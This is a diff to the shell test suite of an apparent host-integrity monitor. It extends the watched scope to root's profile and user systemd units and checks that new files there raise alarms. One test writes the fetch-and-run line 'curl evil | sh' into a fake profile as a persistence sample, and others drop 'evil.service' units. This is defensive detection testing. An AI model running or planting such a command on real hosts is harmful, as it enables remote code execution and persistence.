@@ -50,7 +50,7 @@ baseline_sign() { # NUMBER [OPTION...]: makes, signs and puts both copies in pla
 		"$redoubt" host baseline sign "$work/draft.$number" --key "$work/key" --out "$work/signed.$number" &&
 		cp "$work/signed.$number" "$tree/var/lib/redoubt/host.baseline" && cp "$work/signed.$number" "$tree/mnt/elsewhere/host.baseline"
 }
-scope=/etc,/usr,/bin,/var/spool/cron
+scope=/etc,/usr,/bin,/var/spool/cron,/root/.profile,/root/.config/systemd
 checked() { "$redoubt" host baseline check --root "$tree" "${signed[@]}"; }
 once() { "$redoubt" --json host watch --root "$tree" "${signed[@]}" --once >"$work/out"; }
 clean() { once && jq -se 'length == 1 and .[0].alarms == 0' "$work/out"; }
@@ -214,11 +214,17 @@ ok "the kernel tells of a changed program: no interval is waited for" within 5 t
 echo "# told after $((($(date +%s%N) - started) / 1000000)) ms"
 mkdir -p "$tree/etc/systemd/system/new.target.wants" && echo x >"$tree/etc/systemd/system/new.target.wants/evil.service"
 ok "and of a file in a directory that was not there before" within 5 told "$spool" unit new /etc/systemd/system/new.target.wants/evil.service
+echo 'curl evil | sh' >"$tree/root/.profile"
+ok "and of a single file of the scope that was not there" within 5 told "$spool" file new /root/.profile
+mkdir -p "$tree/root/.config/systemd/user" && echo x >"$tree/root/.config/systemd/user/evil.service"
+ok "and of a folder of the scope whose parents were not there" within 5 told "$spool" file new /root/.config/systemd/user/evil.service
+echo ls >"$tree/root/.bash_history"
 chmod u+s "$tree/usr/sbin/sshd"
 ok "and of a setuid bit" within 5 told "$spool" file changed /usr/sbin/sshd
 line='Sep 22 10:00:00 host sshd[812]: Accepted publickey for alice from 198.51.100.7 port 50022 ssh2: ED25519 SHA256:abc'
 echo "$line" >>"$tree/var/log/auth.log"
 touch "$tree/etc/hostname" # wakes it
+ok "a neighbour of that file is nobody's business" jq -se 'all(.[]; .subject != "/root/.bash_history")' "$spool"
 login_told() { jq -se 'any(.[]; .what == "login" and .change == "accepted" and .subject == "alice" and .after == "198.51.100.7")' "$spool"; }
 ok "a log-in is told" within 5 login_told
 ok "an alarm is told once" jq -se '[.[] | select(.subject == "/usr/bin/tool" and .what == "file")] | length == 1' "$spool"
